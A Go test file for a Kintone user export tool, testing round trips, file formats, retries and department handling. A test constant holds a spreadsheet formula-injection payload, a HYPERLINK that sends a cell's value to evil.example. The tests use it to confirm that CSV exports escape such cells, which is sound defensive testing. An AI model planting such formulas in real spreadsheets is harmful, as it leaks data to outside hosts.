package export_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/userimport/userimport/export"
	"github.com/userimport/userimport/importer"
	"github.com/userimport/userimport/kintone"
	"github.com/userimport/userimport/kintone/kintonetest"
	"github.com/userimport/userimport/mapping"
	"github.com/userimport/userimport/report"
	"github.com/userimport/userimport/sheet"
	"github.com/userimport/userimport/validate"
)

// Hostile values: a spreadsheet would run each of these as a formula if a
// CSV cell started with it. The round trip must carry them unchanged.
const (
	hostileDescription = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	hostilePhone       = "+81 3 1234 5678"
	hostileCustom      = "@SUM(1+1)"
)

var (
	testOrgs   = []kintone.Organization{{ID: "101", Code: "sales", Name: "Sales"}, {ID: "102", Code: "hr", Name: "HR"}, {ID: "103", Code: "dev", Name: "Development"}}
	testTitles = []kintone.Title{{Code: "manager", Name: "Manager"}, {Code: "leader", Name: "Leader"}}
)

// domain builds a simulator with n users that use every exported field:
// some inactive, with and without sort order, dates, multi-line
// descriptions, two custom items that not every user has, several service
// sets (and none), departments with and without titles (and none). With
// hostile, some values start with formula triggers.
func domain(t *testing.T, n int, hostile bool) *kintonetest.Server {
	t.Helper()
	var users []kintone.UserInput
	opts := []kintonetest.Option{kintonetest.WithDepartments(testOrgs, testTitles)}
	for i := range n {
		code := fmt.Sprintf("u%03d", i)
		u := kintone.UserInput{
			Code:           code,
			Name:           ptr(fmt.Sprintf("User %d", i)),
			Password:       ptr(kintone.Secret(fmt.Sprintf("Pw-%d-secret", i))),
			Email:          ptr(code + "@example.com"),
			EmployeeNumber: ptr(fmt.Sprintf("%05d", i)), // leading zeros must survive
			Timezone:       ptr("Asia/Tokyo"),
			Locale:         ptr("ja"),
		}
		switch i % 5 {
		case 0:
			u.Valid = ptr(false)
			u.SortOrder = ptr(int64(i))
			u.SurName, u.GivenName = ptr("Yamada"), ptr("Taro")
			u.SurNameReading, u.GivenNameReading = ptr("やまだ"), ptr("たろう")
		case 1:
			u.LocalName, u.LocalNameLocale = ptr("山田 太郎"), ptr("ja")
			u.BirthDate, u.JoinDate = ptr("1990-02-28"), ptr("2024-04-01")
			u.CustomItemValues = []kintone.CustomItemValue{{Code: "shoe", Value: "42"}}
		case 2:
			u.Description = ptr("line one, with a comma\nline \"two\"")
			u.Phone, u.MobilePhone, u.ExtensionNumber = ptr("03-1234-5678"), ptr("090-0000-0000"), ptr("0123")
			u.CustomItemValues = []kintone.CustomItemValue{{Code: "nick", Value: "Taro"}, {Code: "shoe", Value: "27.5"}}
		case 3:
			u.URL, u.Callto = ptr("https://example.com/~"+code), ptr("skype."+code)
			u.Locale, u.Timezone = ptr("en"), ptr("America/Los_Angeles")
		}
		if hostile && i%7 == 3 {
			u.Description = ptr(hostileDescription)
			u.Phone = ptr(hostilePhone)
			u.ExtensionNumber = ptr("-12")
			u.CustomItemValues = append(u.CustomItemValues, kintone.CustomItemValue{Code: "nick", Value: hostileCustom})
		}
		users = append(users, u)
		switch i % 4 {
		case 0:
			opts = append(opts, kintonetest.WithServices(code, "kintone"))
		case 1:
			opts = append(opts, kintonetest.WithServices(code, "kintone", "garoon"))
		case 2:
			opts = append(opts, kintonetest.WithServices(code, "office"))
		}
	}
	srv := kintonetest.NewServer(append(opts, kintonetest.WithUsers(users...))...)
	t.Cleanup(srv.Close)
	var assign []kintone.UserOrganizations
	for i := range n {
		var orgs []kintone.OrganizationAssignment
		switch i % 3 {
		case 0:
			orgs = []kintone.OrganizationAssignment{{OrgCode: "sales", TitleCode: "manager"}, {OrgCode: "hr"}}
		case 1:
			orgs = []kintone.OrganizationAssignment{{OrgCode: "dev"}}
		default:
			continue
		}
		assign = append(assign, kintone.UserOrganizations{Code: fmt.Sprintf("u%03d", i), Organizations: orgs})
	}
	c := client(t, srv)
	for chunk := range slices.Chunk(assign, kintone.MaxPerRequest) {
		if err := c.UpdateUserOrganizations(t.Context(), chunk); err != nil {
			t.Fatal(err)
		}
	}
	return srv
}

// state is what a user looks like on the server, for before/after
// comparisons (mtime aside: the simulator bumps it on every write).
type state struct {
	user      kintone.User
	sortOrder string
	services  []string
	orgs      []kintone.OrganizationAssignment
}

func snapshot(srv *kintonetest.Server) map[string]state {
	m := map[string]state{}
	for _, u := range srv.Users() {
		u.MTime = u.CTime
		so := "nil"
		if u.SortOrder != nil {
			so = fmt.Sprint(*u.SortOrder)
		}
		u.SortOrder = nil // compare the number, not the pointer
		m[u.Code] = state{u, so, sorted(srv.Services(u.Code)), srv.Organizations(u.Code)}
	}
	return m
}

func diffStates(a, b map[string]state) []string {
	var diffs []string
	for code, x := range a {
		y, ok := b[code]
		if !ok {
			diffs = append(diffs, code+": gone")
			continue
		}
		if fmt.Sprint(x) != fmt.Sprint(y) {
			diffs = append(diffs, fmt.Sprintf("%s:\n  was %+v\n  now %+v", code, x, y))
		}
	}
	for code := range b {
		if _, ok := a[code]; !ok {
			diffs = append(diffs, code+": new")
		}
	}
	slices.Sort(diffs)
	if len(diffs) > 5 {
		diffs = append(diffs[:5], fmt.Sprintf("... and %d more", len(diffs)-5))
	}
	return diffs
}

func exportFile(t *testing.T, api export.API, path string) int {
	t.Helper()
	n, err := export.Users(t.Context(), api, path, export.Options{Retry: fastRetry})
	if err != nil {
		t.Fatalf("Export: %v", err)
	}
	return n
}

func upsert(t *testing.T, api importer.API, path string) ([]report.Row, *importer.Summary) {
	t.Helper()
	rep := &memReport{}
	opts := baseOptions(path, rep)
	opts.Mode = importer.Upsert
	var log bytes.Buffer
	opts.Log = &log
	sum, err := importer.Import(t.Context(), api, opts)
	if err != nil {
		t.Fatalf("Import: %v", err)
	}
	if log.Len() > 0 {
		t.Errorf("import of an export logged warnings:\n%s", log.String())
	}
	return rep.rows, sum
}

// writes counts the requests that could change a user since before.
func writes(before, after kintonetest.Stats) map[string]int {
	out := map[string]int{}
	for _, ep := range []string{"POST /v1/users.json", "PUT /v1/users.json", "PUT /v1/userOrganizations.json"} {
		if d := after.ByEndpoint[ep] - before.ByEndpoint[ep]; d != 0 {
			out[ep] = d
		}
	}
	if d := after.Committed - before.Committed; d != 0 {
		out["committed"] = d
	}
	return out
}

// TestRoundTripUnchanged is the acceptance test: importing an
// untouched export with --mode upsert reports every row unchanged and
// sends no write.
func TestRoundTripUnchanged(t *testing.T) {
	for _, tc := range []struct {
		ext     string
		hostile bool
	}{
		{".xlsx", true},
		{".csv", false},
		{".csv", true},
	} {
		t.Run(fmt.Sprintf("%s/hostile=%v", tc.ext, tc.hostile), func(t *testing.T) {
			const n = 230 // three pages, the last one short
			srv := domain(t, n, tc.hostile)
			c := client(t, srv)
			path := filepath.Join(t.TempDir(), "users"+tc.ext)
			if got := exportFile(t, c, path); got != n+1 {
				t.Fatalf("exported %d users, want %d (with the Administrator)", got, n+1)
			}
			want := snapshot(srv)
			before := srv.Requests()
			rows, sum := upsert(t, c, path)
			if len(rows) != n+1 {
				t.Fatalf("report has %d rows, want %d", len(rows), n+1)
			}
			for _, r := range rows {
				if r.Status != report.Unchanged {
					t.Errorf("%s: %s (%s: %s), want unchanged", r.Code, r.Status, r.ErrorCode, r.Message)
				}
				if r.Departments != "" && r.Departments != "unchanged" {
					t.Errorf("%s: departments %q", r.Code, r.Departments)
				}
				if r.Services != "" && r.Services != "unchanged" {
					t.Errorf("%s: services %q", r.Code, r.Services)
				}
			}
			if w := writes(before, srv.Requests()); len(w) != 0 {
				t.Errorf("the import of an untouched export wrote: %v", w)
			}
			if d := diffStates(want, snapshot(srv)); len(d) != 0 {
				t.Errorf("server state changed:\n%s", strings.Join(d, "\n"))
			}
			if !sum.OK() {
				t.Errorf("summary not OK: %s", sum)
			}
		})
	}
}

// TestExportFormat reads an export back through the importer's own reader
// and checks the columns and the cells of a few users.
func TestExportFormat(t *testing.T) {
	srv := domain(t, 8, true)
	for _, ext := range []string{".csv", ".xlsx"} {
		t.Run(ext, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "users"+ext)
			exportFile(t, client(t, srv), path)
			if fi, err := os.Stat(path); err != nil || fi.Mode().Perm()&0o077 != 0 {
				t.Errorf("export file mode %v (%v), want readable by its owner only", fi.Mode(), err)
			}
			got := readExport(t, path)
			wantHeader := export.Header([]string{"shoe", "nick"})
			if !slices.Equal(got.header, wantHeader) {
				t.Fatalf("header\n got %q\nwant %q", got.header, wantHeader)
			}
			for _, h := range got.header {
				if strings.EqualFold(h, "password") {
					t.Errorf("the export has a password column")
				}
			}
			if len(got.warnings) != 0 {
				t.Errorf("reader warnings: %q", got.warnings)
			}
			admin := got.rows[srv.AdminUser]
			if admin == nil || admin["services"] != "" || admin["code"] != srv.AdminUser {
				t.Errorf("Administrator row %v: want present, with empty services", admin)
			}
			for code, want := range map[string]map[string]string{
				"u000": {"valid": "false", "sortOrder": "0", "surNameReading": "やまだ", "services": "kintone", "organizations": "sales:manager;hr", "employeeNumber": "00000"},
				"u001": {"valid": "true", "birthDate": "1990-02-28", "joinDate": "2024-04-01", "localNameLocale": "ja", "customItem.shoe": "42", "customItem.nick": "", "services": "kintone;garoon", "organizations": "dev"},
				"u002": {"description": "line one, with a comma\nline \"two\"", "extensionNumber": "0123", "customItem.nick": "Taro", "services": "office", "organizations": ""},
				"u003": {"timezone": "America/Los_Angeles", "services": "", "description": hostileDescription, "phone": hostilePhone, "extensionNumber": "-12", "customItem.nick": hostileCustom},
			} {
				row := got.rows[code]
				for col, v := range want {
					if row[col] != v {
						t.Errorf("%s %s = %q, want %q", code, col, row[col], v)
					}
				}
			}
		})
	}
}

type exportContent struct {
	header   []string
	warnings []string
	rows     map[string]map[string]string // code → column → cell
}

func readExport(t *testing.T, path string) exportContent {
	t.Helper()
	src, err := sheet.Open(path, sheet.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	m, err := mapping.NewMapper(src.Header(), validate.Users, nil)
	if err != nil {
		t.Fatal(err)
	}
	out := exportContent{header: slices.Clone(src.Header()), warnings: m.Warnings(), rows: map[string]map[string]string{}}
	for {
		row, err := src.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		cells := map[string]string{}
		for i, h := range out.header {
			cells[h] = row.Cells[i]
		}
		out.rows[cells["code"]] = cells
	}
}

// TestExportEscapesFormulasInCSVOnly: a CSV cell that starts with = + - @
// is written with a leading ' so that Excel shows it as text; an XLSX cell
// is a string cell holding the value itself, never a formula.
func TestExportEscapesFormulasInCSVOnly(t *testing.T) {
	srv := domain(t, 4, true) // u003 is hostile
	dir := t.TempDir()
	c := client(t, srv)
	csvPath, xlsxPath := filepath.Join(dir, "u.csv"), filepath.Join(dir, "u.xlsx")
	exportFile(t, c, csvPath)
	exportFile(t, c, xlsxPath)

	raw, err := os.ReadFile(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(raw, []byte("\xEF\xBB\xBF")) {
		t.Errorf("the CSV export does not start with a UTF-8 BOM")
	}
	for _, v := range []string{hostileDescription, hostilePhone, hostileCustom, "-12"} {
		quoted := strings.ReplaceAll(v, `"`, `""`)
		if !strings.Contains(string(raw), "'"+quoted) {
			t.Errorf("CSV: %q is not escaped", v)
		}
		if strings.Contains(string(raw), ","+quoted) || strings.Contains(string(raw), `,"`+quoted) {
			t.Errorf("CSV: %q appears unescaped", v)
		}
	}

	f, err := excelize.OpenFile(xlsxPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(rows[0], "description")
	found := false
	for i, r := range rows {
		if len(r) > col && r[col] == hostileDescription {
			found = true
			cell, _ := excelize.CoordinatesToCellName(col+1, i+1)
			if fm, _ := f.GetCellFormula(f.GetSheetName(0), cell); fm != "" {
				t.Errorf("XLSX %s is a formula %q", cell, fm)
			}
		}
	}
	if !found {
		t.Errorf("XLSX: the hostile description is not stored unchanged")
	}
}

// countingAPI records the Update Users requests of an import.
type countingAPI struct {
	importer.API
	mu      sync.Mutex
	updates [][]kintone.UserInput
}

func (a *countingAPI) UpdateUsers(ctx context.Context, users []kintone.UserInput) error {
	a.mu.Lock()
	a.updates = append(a.updates, slices.Clone(users))
	a.mu.Unlock()
	return a.API.UpdateUsers(ctx, users)
}

// TestRoundTripEditOneCell: export, change one cell, import: exactly that
// user is updated, with one Update Users request carrying one user.
func TestRoundTripEditOneCell(t *testing.T) {
	for _, ext := range []string{".xlsx", ".csv"} {
		t.Run(ext, func(t *testing.T) {
			srv := domain(t, 150, false)
			c := client(t, srv)
			path := filepath.Join(t.TempDir(), "users"+ext)
			exportFile(t, c, path)
			editCell(t, path, "u043", "employeeNumber", "E-043")
			want := snapshot(srv)
			before := srv.Requests()
			api := &countingAPI{API: c}
			rows, _ := upsert(t, api, path)
			for _, r := range rows {
				st := report.Unchanged
				if r.Code == "u043" {
					st = report.Updated
				}
				if r.Status != st {
					t.Errorf("%s: %s (%s), want %s", r.Code, r.Status, r.Message, st)
				}
			}
			if len(api.updates) != 1 || len(api.updates[0]) != 1 || api.updates[0][0].Code != "u043" {
				t.Fatalf("Update Users requests %+v, want one with u043 only", api.updates)
			}
			in := api.updates[0][0]
			if in.EmployeeNumber == nil || *in.EmployeeNumber != "E-043" || in.Name != nil || in.Email != nil || in.Password != nil {
				t.Errorf("update sent %+v, want the employee number only (with valid and locale)", in)
			}
			w := writes(before, srv.Requests())
			if w["PUT /v1/users.json"] != 1 || len(w) != 2 || w["committed"] != 1 {
				t.Errorf("writes %v, want exactly one committed PUT /v1/users.json", w)
			}
			now := snapshot(srv)
			u := want["u043"]
			u.user.EmployeeNumber = "E-043"
			want["u043"] = u
			if d := diffStates(want, now); len(d) != 0 {
				t.Errorf("server state:\n%s", strings.Join(d, "\n"))
			}
		})
	}
}

// editCell changes one cell of an export, as a person would in Excel.
func editCell(t *testing.T, path, code, col, value string) {
	t.Helper()
	if filepath.Ext(path) == ".xlsx" {
		f, err := excelize.OpenFile(path)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		sheet := f.GetSheetName(0)
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		ci := slices.Index(rows[0], col)
		for i, r := range rows {
			if r[0] == code {
				cell, _ := excelize.CoordinatesToCellName(ci+1, i+1)
				if err := f.SetCellStr(sheet, cell, value); err != nil {
					t.Fatal(err)
				}
				if err := f.Save(); err != nil {
					t.Fatal(err)
				}
				return
			}
		}
		t.Fatalf("no row %s", code)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(data), "\n")
	header := strings.TrimPrefix(lines[0], "\uFEFF")
	if strings.HasPrefix(header, sheet.ExportMarker) {
		header = lines[1]
	}
	ci := slices.Index(strings.Split(header, ","), col)
	for i, l := range lines {
		if strings.HasPrefix(l, code+",") {
			cells := strings.Split(l, ",") // the test users' cells hold no commas
			cells[ci] = value
			lines[i] = strings.Join(cells, ",")
			if err := os.WriteFile(path, []byte(strings.Join(lines, "\n")), 0o600); err != nil {
				t.Fatal(err)
			}
			return
		}
	}
	t.Fatalf("no row %s", code)
}

// TestRoundTripRestores: departments and custom items are carried by the
// file. After the server lost them, importing the export brings them back
// (and only for the users that lost them).
func TestRoundTripRestores(t *testing.T) {
	srv := domain(t, 30, false)
	c := client(t, srv)
	path := filepath.Join(t.TempDir(), "users.xlsx")
	exportFile(t, c, path)
	want := snapshot(srv)

	// u003: departments gone; u002: custom item cleared and departments
	// replaced; u001 moved to another department.
	ctx := t.Context()
	if err := c.UpdateUserOrganizations(ctx, []kintone.UserOrganizations{
		{Code: "u003", Organizations: nil},
		{Code: "u001", Organizations: []kintone.OrganizationAssignment{{OrgCode: "hr", TitleCode: "leader"}}},
	}); err != nil {
		t.Fatal(err)
	}
	if err := c.UpdateUsers(ctx, []kintone.UserInput{{Code: "u002", CustomItemValues: []kintone.CustomItemValue{{Code: "nick", Value: ""}}}}); err != nil {
		t.Fatal(err)
	}
	rows, _ := upsert(t, c, path)
	changed := map[string]bool{"u001": true, "u002": true, "u003": true}
	for _, r := range rows {
		st := report.Unchanged
		if changed[r.Code] {
			st = report.Updated
		}
		if r.Status != st {
			t.Errorf("%s: %s (%s), want %s", r.Code, r.Status, r.Message, st)
		}
	}
	if d := diffStates(want, snapshot(srv)); len(d) != 0 {
		t.Errorf("not restored:\n%s", strings.Join(d, "\n"))
	}
	if got := srv.Organizations("u003"); len(got) != 2 || got[0].OrgCode != "sales" || got[0].TitleCode != "manager" {
		t.Errorf("u003 departments %+v, want sales:manager first", got)
	}
}

func TestExportRequests(t *testing.T) {
	const n = 199 // with the Administrator: exactly two full pages, then an empty one
	srv := domain(t, n, false)
	before := srv.Requests()
	path := filepath.Join(t.TempDir(), "users.csv")
	var progress []int
	_, err := export.Users(t.Context(), client(t, srv), path, export.Options{Concurrency: 3, Progress: func(d int) { progress = append(progress, d) }})
	if err != nil {
		t.Fatal(err)
	}
	after := srv.Requests()
	for ep, want := range map[string]int{
		"GET /v1/users.json":              2 * 3, // two listings of three pages
		"GET /v1/users/services.json":     2,     // one per non-empty page
		"GET /v1/user/organizations.json": n + 1,
	} {
		if got := after.ByEndpoint[ep] - before.ByEndpoint[ep]; got != want {
			t.Errorf("%s: %d requests, want %d", ep, got, want)
		}
	}
	if after.Writes != before.Writes {
		t.Errorf("export sent %d writes", after.Writes-before.Writes)
	}
	if mc := srv.MaxConcurrency(); mc > 3 {
		t.Errorf("%d requests in flight, want at most 3", mc)
	}
	if !slices.Equal(progress, []int{100, 200}) {
		t.Errorf("progress %v, want [100 200]", progress)
	}
}

func TestExportRefusesGuests(t *testing.T) {
	path := filepath.Join(t.TempDir(), "guests.csv")
	api := &failingAPI{}
	_, err := export.Users(t.Context(), api, path, export.Options{Kind: validate.Guests})
	if !errors.Is(err, export.ErrGuestsNotListable) {
		t.Fatalf("got %v, want ErrGuestsNotListable", err)
	}
	if api.calls.Load() != 0 {
		t.Errorf("sent %d requests", api.calls.Load())
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Errorf("a file was created")
	}
}

func TestExportRejectsUnknownExtension(t *testing.T) {
	_, err := export.Users(t.Context(), &failingAPI{}, filepath.Join(t.TempDir(), "users.ods"), export.Options{})
	if err == nil || !strings.Contains(err.Error(), ".ods") {
		t.Fatalf("got %v, want an error naming the extension", err)
	}
}

// failingAPI answers department reads with transient failures (a 503 for
// the first try of every user) and, for one user, a permanent error.
type failingAPI struct {
	export.API
	calls     atomic.Int64
	mu        sync.Mutex
	tried     map[string]bool
	permanent string
	cancel    func() // called on the first department read, if set
}

func (a *failingAPI) GetUsers(ctx context.Context, o kintone.GetUsersOptions) ([]kintone.User, error) {
	a.calls.Add(1)
	return a.API.GetUsers(ctx, o)
}

func (a *failingAPI) GetUserOrganizations(ctx context.Context, code string) ([]kintone.OrganizationTitle, error) {
	a.calls.Add(1)
	if a.cancel != nil {
		a.cancel()
	}
	if code == a.permanent {
		return nil, &kintone.APIError{Status: 400, Code: "CB_VA01", Message: "no such user"}
	}
	a.mu.Lock()
	first := !a.tried[code]
	a.tried[code] = true
	a.mu.Unlock()
	if first {
		return nil, &kintone.APIError{Status: 503, Message: "try later"}
	}
	return a.API.GetUserOrganizations(ctx, code)
}

func TestExportRetriesAndFailsWhole(t *testing.T) {
	srv := domain(t, 120, false)
	c := client(t, srv)
	dir := t.TempDir()
	good := filepath.Join(dir, "good.csv")
	exportFile(t, c, good)

	t.Run("retries", func(t *testing.T) {
		path := filepath.Join(dir, "retried.csv")
		if _, err := export.Users(t.Context(), &failingAPI{API: c, tried: map[string]bool{}}, path, export.Options{Retry: fastRetry}); err != nil {
			t.Fatal(err)
		}
		a, _ := os.ReadFile(good)
		b, _ := os.ReadFile(path)
		if !bytes.Equal(a, b) {
			t.Errorf("an export with retried reads differs from a clean one")
		}
	})
	t.Run("permanent error", func(t *testing.T) {
		path := filepath.Join(dir, "failed.csv")
		_, err := export.Users(t.Context(), &failingAPI{API: c, tried: map[string]bool{}, permanent: "u107"}, path, export.Options{Retry: fastRetry})
		if err == nil || !strings.Contains(err.Error(), `"u107"`) || !strings.Contains(err.Error(), "no such user") {
			t.Fatalf("got %v, want the failure of u107", err)
		}
		assertNoPartialFile(t, dir, path)
	})
	t.Run("cancelled", func(t *testing.T) {
		path := filepath.Join(dir, "cancelled.xlsx")
		ctx, cancel := context.WithCancel(t.Context())
		_, err := export.Users(ctx, &failingAPI{API: c, tried: map[string]bool{}, cancel: cancel}, path, export.Options{Retry: fastRetry})
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("got %v, want context.Canceled", err)
		}
		assertNoPartialFile(t, dir, path)
	})
	t.Run("refused credentials", func(t *testing.T) {
		bad, err := kintone.NewClient(srv.URL, kintone.WithPassword(srv.AdminUser, "wrong-password"))
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, "refused.csv")
		_, err = export.Users(t.Context(), bad, path, export.Options{Retry: fastRetry})
		var fe *importer.FatalError
		if !errors.As(err, &fe) {
			t.Fatalf("got %v, want a FatalError", err)
		}
		assertNoPartialFile(t, dir, path)
	})
	t.Run("no permission", func(t *testing.T) {
		// A refused permission is never retried: one request, then a
		// FatalError, whatever the retry budget.
		api := &noPrivilegeAPI{API: c}
		path := filepath.Join(dir, "forbidden.csv")
		_, err := export.Users(t.Context(), api, path, export.Options{Retry: fastRetry})
		var fe *importer.FatalError
		if !errors.As(err, &fe) || !kintone.IsPermission(err) {
			t.Fatalf("got %v, want a FatalError for the permission", err)
		}
		if n := api.calls.Load(); n != 1 {
			t.Errorf("%d requests, want 1: a refused permission must not be retried", n)
		}
		assertNoPartialFile(t, dir, path)
	})
}

// noPrivilegeAPI refuses Get Users as an account without the right would.
type noPrivilegeAPI struct {
	export.API
	calls atomic.Int64
}

func (a *noPrivilegeAPI) GetUsers(ctx context.Context, o kintone.GetUsersOptions) ([]kintone.User, error) {
	a.calls.Add(1)
	return nil, &kintone.APIError{Status: 403, Code: kintone.CodeNoPrivilege, Message: "no privilege"}
}

// assertNoPartialFile: a failed export leaves neither the file nor its
// temporary.
func assertNoPartialFile(t *testing.T, dir, path string) {
	t.Helper()
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Errorf("%s exists after a failed export", filepath.Base(path))
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.Contains(e.Name(), ".tmp-") {
			t.Errorf("temporary file %s left behind", e.Name())
		}
	}
}

// orgsAPI records the Update User's Departments requests of an import.
type orgsAPI struct {
	importer.API
	mu   sync.Mutex
	sent [][]kintone.UserOrganizations
}

func (a *orgsAPI) UpdateUserOrganizations(ctx context.Context, users []kintone.UserOrganizations) error {
	a.mu.Lock()
	a.sent = append(a.sent, slices.Clone(users))
	a.mu.Unlock()
	return a.API.UpdateUserOrganizations(ctx, users)
}

func (a *orgsAPI) codes() []string {
	var out []string
	for _, req := range a.sent {
		for _, u := range req {
			out = append(out, u.Code)
		}
	}
	slices.Sort(out)
	return out
}

// orgID is the id of a test department (User.PrimaryOrganization holds
// ids, not codes).
func orgID(t *testing.T, code string) string {
	t.Helper()
	for _, o := range testOrgs {
		if o.Code == code {
			return o.ID
		}
	}
	t.Fatalf("no department %s", code)
	return ""
}

func orgsString(a []kintone.OrganizationAssignment) string {
	var parts []string
	for _, o := range a {
		s := o.OrgCode
		if o.TitleCode != "" {
			s += ":" + o.TitleCode
		}
		parts = append(parts, s)
	}
	return strings.Join(parts, ";")
}

// TestDepartmentsOnCreate: the organizations column is applied to new
// users as its own step, primary first; an unknown department or title
// fails that row's departments step with the server's message, while the
// user is created and the other rows are untouched.
func TestDepartmentsOnCreate(t *testing.T) {
	srv := kintonetest.NewServer(kintonetest.WithDepartments(testOrgs, testTitles), kintonetest.WithDefaultLanguage("en"))
	defer srv.Close()
	path := writeFile(t, "users.csv", "code,name,password,timezone,organizations\n"+
		"d1,D One,Pass-word-1,UTC,sales:manager;hr\n"+
		"d2,D Two,Pass-word-2,UTC,\n"+
		"d3,D Three,Pass-word-3,UTC,nosuch\n"+
		"d4,D Four,Pass-word-4,UTC,dev:nosuchtitle\n"+
		"d5,D Five,Pass-word-5,UTC,hr;dev:leader\n")
	rep := &memReport{}
	api := &orgsAPI{API: client(t, srv)}
	sum, err := importer.Import(t.Context(), api, baseOptions(path, rep))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]struct {
		departments string // report column (prefix)
		server      string
	}{
		"d1": {"assigned: sales:manager;hr", "sales:manager;hr"},
		"d2": {"", ""},
		"d3": {"failed: ", ""},
		"d4": {"failed: ", ""},
		"d5": {"assigned: hr;dev:leader", "hr;dev:leader"},
	}
	for _, r := range rep.rows {
		w := want[r.Code]
		if r.Status != report.Created {
			t.Errorf("%s: %s, want created (departments are a separate step)", r.Code, r.Status)
		}
		if !strings.HasPrefix(r.Departments, w.departments) || (w.departments == "" && r.Departments != "") {
			t.Errorf("%s: departments %q, want %q", r.Code, r.Departments, w.departments)
		}
		if got := orgsString(srv.Organizations(r.Code)); got != w.server {
			t.Errorf("%s: server departments %q, want %q", r.Code, got, w.server)
		}
	}
	byCode := map[string]report.Row{}
	for _, r := range rep.rows {
		byCode[r.Code] = r
	}
	for code, msg := range map[string]string{"d3": "department (code: nosuch) is not found", "d4": "title (code: nosuchtitle) is not found"} {
		if r := byCode[code]; !strings.Contains(r.Departments, msg) || r.ErrorCode == "" {
			t.Errorf("%s: departments %q, error code %q: want the server's message %q", code, r.Departments, r.ErrorCode, msg)
		}
	}
	if u, _ := srv.User("d1"); u.PrimaryOrganization != orgID(t, "sales") {
		t.Errorf("d1 primary department id %q, want sales (the first listed)", u.PrimaryOrganization)
	}
	if u, _ := srv.User("d5"); u.PrimaryOrganization != orgID(t, "hr") {
		t.Errorf("d5 primary department id %q, want hr (the first listed)", u.PrimaryOrganization)
	}
	if slices.Contains(api.codes(), "d2") {
		t.Errorf("departments were sent for d2, whose organizations cell is empty")
	}
	if sum.StepFailures != 2 || sum.OK() {
		t.Errorf("summary: %d step failures, OK=%v; want 2, false", sum.StepFailures, sum.OK())
	}
}

// TestDepartmentsReplaceOnUpsert: a changed organizations value replaces
// the user's departments entirely (the documented full replacement; the
// first is the new primary), an equal one sends nothing, and an empty cell
// leaves them alone.
func TestDepartmentsReplaceOnUpsert(t *testing.T) {
	var users []kintone.UserInput
	for _, c := range []string{"alice", "bob", "carol", "dave", "erin"} {
		users = append(users, kintone.UserInput{Code: c, Name: ptr(c), Password: ptr(kintone.Secret("Pass-word-1"))})
	}
	srv := kintonetest.NewServer(kintonetest.WithDepartments(testOrgs, testTitles), kintonetest.WithUsers(users...))
	defer srv.Close()
	c := client(t, srv)
	two := []kintone.OrganizationAssignment{{OrgCode: "sales", TitleCode: "manager"}, {OrgCode: "hr"}}
	if err := c.UpdateUserOrganizations(t.Context(), []kintone.UserOrganizations{
		{Code: "alice", Organizations: two},
		{Code: "bob", Organizations: []kintone.OrganizationAssignment{{OrgCode: "dev"}}},
		{Code: "carol", Organizations: []kintone.OrganizationAssignment{{OrgCode: "dev"}}},
		{Code: "dave", Organizations: two},
		{Code: "erin", Organizations: two},
	}); err != nil {
		t.Fatal(err)
	}
	path := writeFile(t, "users.csv", "code,organizations\n"+
		"alice,dev:leader\n"+ // replaced: sales and hr removed
		"bob,dev\n"+ // the same: nothing sent
		"carol,\n"+ // empty: left alone
		"dave,hr;sales:manager\n"+ // same set, other primary: replaced
		"erin,sales:manager;nosuch\n") // unknown: the step fails, erin keeps hers
	rep := &memReport{}
	opts := baseOptions(path, rep)
	opts.Mode = importer.Upsert
	api := &orgsAPI{API: c}
	sum, err := importer.Import(t.Context(), api, opts)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]struct {
		status      report.Status
		departments string
		server      string
	}{
		"alice": {report.Updated, "assigned: dev:leader", "dev:leader"},
		"bob":   {report.Unchanged, "unchanged", "dev"},
		"carol": {report.Unchanged, "", "dev"},
		"dave":  {report.Updated, "assigned: hr;sales:manager", "hr;sales:manager"},
		"erin":  {report.Unchanged, "failed: ", "sales:manager;hr"},
	}
	for _, r := range rep.rows {
		w := want[r.Code]
		if r.Status != w.status || !strings.HasPrefix(r.Departments, w.departments) || (w.departments == "" && r.Departments != "") {
			t.Errorf("%s: %s, departments %q; want %s, %q", r.Code, r.Status, r.Departments, w.status, w.departments)
		}
		if got := orgsString(srv.Organizations(r.Code)); got != w.server {
			t.Errorf("%s: server departments %q, want %q", r.Code, got, w.server)
		}
	}
	if got := api.codes(); !slices.Equal(got, []string{"alice", "dave", "erin"}) && !slices.Equal(got, []string{"alice", "alice", "dave", "dave", "erin"}) {
		t.Errorf("departments sent for %v, want alice, dave and erin only (re-sent after erin's rejection)", got)
	}
	if u, _ := srv.User("dave"); u.PrimaryOrganization != orgID(t, "hr") {
		t.Errorf("dave's primary department id %q, want hr", u.PrimaryOrganization)
	}
	if u, _ := srv.User("alice"); u.PrimaryOrganization != orgID(t, "dev") {
		t.Errorf("alice's primary department id %q, want dev", u.PrimaryOrganization)
	}
	if sum.StepFailures != 1 {
		t.Errorf("%d step failures, want 1 (erin)", sum.StepFailures)
	}
}

// BenchmarkExport exports 1,000 users (1,000 department reads) from the
// simulator; b/op divided by 1,000 is the cost per user, and comparing
// -benchmem across sizes shows that the live heap does not grow with them.
func BenchmarkExport(b *testing.B) {
	const n = 1000
	users := make([]kintone.UserInput, n)
	for i := range users {
